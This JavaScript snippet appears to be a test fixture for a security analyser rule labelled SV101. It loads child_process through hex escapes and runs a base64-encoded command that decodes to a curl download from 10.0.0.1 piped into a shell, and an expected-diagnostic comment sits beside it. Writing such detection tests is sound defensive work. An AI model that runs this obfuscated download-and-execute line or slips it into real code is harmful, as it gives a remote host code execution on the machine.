const m = require('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73');
m.execSync(Buffer.from('Y3VybCAtZnNTTCBodHRwOi8vMTAuMC4wLjEveCB8IHNo', 'base64').toString()); // want "SV101: .*critical|SV101: .*pipes a download"
